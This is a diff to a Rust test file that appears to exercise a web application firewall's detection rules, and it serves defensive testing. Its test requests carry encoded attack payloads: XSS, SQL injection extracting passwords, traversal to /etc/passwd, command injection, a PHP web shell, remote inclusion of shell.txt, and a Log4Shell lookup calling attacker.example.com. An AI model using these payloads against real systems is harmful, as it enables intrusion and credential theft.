@@ -436,7 +436,7 @@ fn attacks() -> Vec<(i64, Req)> {
         Req::get("/").header("X-Note", "&lt;img src=x onerror=alert(1)&gt;"),
         Req::get("/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
     ]);
-    add(4215200, vec![
+    add(4240100, vec![
         q(&b64(sqli.as_bytes(), false)),
         q(&b64(b"1 UNION SELECT username, password FROM users", true)),
         raw("/search?q=%2527%2520OR%25201%253D1--"),
@@ -453,6 +453,12 @@ fn attacks() -> Vec<(i64, Req)> {
         q_bytes(&[&[0xff, 0xfe][..], &utf16le(xss)].concat()),
         Req::get("/").header("Cookie", &format!("pref={}", b64(b"<svg onload=alert(document.cookie)>", false))),
     ]);
+    // The other families' critical argument rules read the decoded forms too.
+    add(4220100, vec![arg("file", &b64(b"../../../../etc/passwd", false)), raw("/page?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd")]);
+    add(4225100, vec![arg("page", &b64(b"http://203.0.113.7/shell.txt?", true))]);
+    add(4230100, vec![arg("host", &b64(b"127.0.0.1;cat /etc/passwd", false)), json(r#"{"host":"127.0.0.1\u003bcat /etc/passwd"}"#)]);
+    add(4235100, vec![form(&[("message", &b64(b"<?php system($_GET['c']); ?>", false))])]);
+    add(4260100, vec![Req::get("/").header("X-Api-Version", &b64(b"${jndi:ldap://attacker.example.com:1389/Exploit}", true))]);
 
     // 20-lfi
     add(4220100, vec![
